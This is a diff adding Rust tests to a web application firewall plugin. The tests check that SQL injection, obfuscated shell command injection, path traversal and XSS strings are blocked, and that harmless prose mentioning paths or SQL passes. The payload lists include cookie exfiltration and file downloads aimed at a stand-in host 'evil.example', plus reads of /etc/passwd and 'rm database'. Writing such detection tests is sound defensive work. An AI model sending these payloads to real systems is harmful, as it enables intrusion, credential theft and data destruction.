@@ -114,7 +114,7 @@ fn anomaly_mode_blocks_only_when_the_score_reaches_the_threshold() {
 #[test]
 fn block_mode_blocks_on_any_match() {
     let plugin = waf(json!({ "mode": "block", "paranoia": 2 }));
-    // 941190 is a paranoia-2 rule scoring 4: below the anomaly threshold, but blocking here.
+    // 941190 is a paranoia-2 rule: any match blocks in block mode.
     let (action, context) = run(&plugin, FakeRequest::new("GET", "/?q=setTimeout(x)"));
     assert_eq!(status(&action), Some(403));
     assert_eq!(context.get("waf.matched"), Some("941190"));
@@ -126,6 +126,150 @@ fn paranoia_levels_trade_false_positives_for_coverage() {
     assert_eq!(run(&waf(json!({})), request()).0, Action::Continue);
     let (_, context) = run(&waf(json!({ "paranoia": 3, "mode": "detect" })), request());
     assert_eq!(context.get("waf.matched"), Some("942300"));
+}
+
+/// The rule ids a default-config plugin matched on `?q=<value>`, and whether it blocked.
+fn verdict_on_query(paranoia: u8, value: &str) -> (bool, String) {
+    let plugin = waf(json!({ "paranoia": paranoia }));
+    let encoded: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
+    let (action, context) = run(&plugin, FakeRequest::new("GET", &format!("/?q={encoded}")));
+    let matched = context.get("waf.matched").unwrap_or_default().to_owned();
+    (status(&action) == Some(403), matched)
+}
+
+#[test]
+fn blocks_sql_probes_that_have_no_quote_to_close() {
+    for (payload, rule) in [
+        ("1 and sleep(7)", "942150"),
+        ("1 waitfor delay '00:00:03'", "942150"),
+        ("1;print @@version", "942160"),
+        ("1 into outfile '/tmp/out.txt'", "942180"),
+        ("/*!50000select*/ user()", "942170"),
+        ("1 uNiOn/**/aLl/**/SeLeCt null,null", "942190"),
+    ] {
+        let (blocked, matched) = verdict_on_query(1, payload);
+        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
+    }
+}
+
+#[test]
+fn blocks_commands_hidden_by_quoting_variables_and_globs() {
+    for (payload, rule) in [
+        (";c''at /etc/passwd", "932100"),
+        (";who$@ami", "932105"),
+        (";${PATH:0:1}bin${PATH:0:1}id", "932125"),
+        ("; /???/??t /etc/group", "932140"),
+        ("; python3 -c 'import os'", "932150"),
+        ("& certutil -urlcache -f http://evil.example/x x", "932160"),
+    ] {
+        let (blocked, matched) = verdict_on_query(1, payload);
+        assert!(blocked && matched.contains(rule), "{payload}: {matched}");
+    }
+}
+
+#[test]
+fn passes_a_bare_path_or_api_mentioned_in_a_sentence_at_paranoia_1_but_not_at_2() {
+    for prose in [
+        "add the host to /etc/hosts and restart",
+        "Cat /etc/hosts - what is this file for?",
+        "you can read document.cookie from JavaScript unless it is HttpOnly",
+    ] {
+        assert_eq!(
+            verdict_on_query(1, prose),
+            (false, String::new()),
+            "{prose}"
+        );
+        assert!(verdict_on_query(2, prose).0, "{prose}");
+    }
+}
+
+/// The core payloads of each class, each to be wrapped in prose.
+const CORE_PAYLOADS: &[&str] = &[
+    // xss
+    "<script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "<script>fetch(`//evil.example/`+document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    // traversal
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "php://filter/resource=index.php",
+    // command
+    "`id`",
+    "`wget evil.example/x -O /tmp/x`",
+    "$(cat /etc/passwd)",
+    "; cat /etc/passwd",
+    "; rm database",
+    "| bash payload",
+    // sqli
+    "1' or '1'='1",
+    "1 union select null,null",
+];
+
+#[test]
+fn blocks_core_payloads_wrapped_in_prose_at_paranoia_1() {
+    for payload in CORE_PAYLOADS {
+        for wrapped in [
+            format!("a {payload} b"),
+            format!("hi there friend {payload}"),
+            format!("a b c {payload}"),
+            format!("{payload} a b"),
+            format!("see the docs here {payload} and tell me what you think"),
+        ] {
+            // The one exemption: a bare path in a sentence of mostly words is a mention
+            // (see `passes_a_bare_path_or_api_mentioned_in_a_sentence_…`).
+            if *payload == "/etc/passwd" && wrapped.starts_with("see the docs") {
+                continue;
+            }
+            let (blocked, matched) = verdict_on_query(1, &wrapped);
+            assert!(blocked, "{wrapped:?} passed ({matched})");
+        }
+    }
+}
+
+#[test]
+fn blocks_a_traversal_wrapped_in_prose_with_a_nul_in_json() {
+    let plugin = waf(json!({}));
+    let body = json!({ "comment": "../../../../etc/passwd\u{0} a b" }).to_string();
+    let request = FakeRequest::new("POST", "/comments")
+        .header("content-type", "application/json")
+        .body(body);
+    assert_eq!(status(&run(&plugin, request).0), Some(403));
+}
+
+#[test]
+fn blocks_sql_login_bypasses_bare_shells_and_piped_commands_at_paranoia_1() {
+    for payload in [
+        "admin' -- ab",
+        "admin'--x",
+        "admin'#a",
+        "; rm database",
+        "; sh payload",
+        "| bash payload",
+        "&& python payload",
+        "a |id b",
+    ] {
+        let (blocked, matched) = verdict_on_query(1, payload);
+        assert!(blocked, "{payload:?} passed ({matched})");
+    }
+}
+
+#[test]
+fn passes_quotations_and_quoted_options_that_read_as_sql_comments() {
+    for prose in [
+        "\"Talk is cheap. Show me the code.\" -- Linus Torvalds",
+        "pass the \"--verbose\" option",
+        "what does 'or 1=1' mean in a sql injection lesson",
+    ] {
+        assert_eq!(
+            verdict_on_query(1, prose),
+            (false, String::new()),
+            "{prose}"
+        );
+    }
 }
 
 #[test]
